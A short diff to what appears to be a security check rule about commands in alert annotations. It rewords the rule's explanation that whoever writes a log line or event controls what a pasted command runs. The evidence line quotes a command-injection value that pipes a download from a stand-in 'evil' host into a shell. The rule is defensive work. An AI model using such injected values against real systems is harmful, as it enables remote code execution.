@@ -18,7 +18,7 @@ export const ruleUntrustedCommand = ruleCheck({
   id: "rule-untrusted-command",
   title: "Commands in annotations contain only text of a known form",
   severity: "error",
-  why: "people paste the command of a notification into a terminal; who writes a log line or an event then decides what the shell runs",
+  why: "people paste the command of a notification into a terminal; the writer of a log line or an event then decides what the shell runs",
   remedy: "filter the label by the form of its values in the query, or remove it from the command",
   evidence:
     'measured on Kubernetes 1.36: with the role edit, an event about "x; curl http://evil|sh #" is created, and its name reaches the alert',
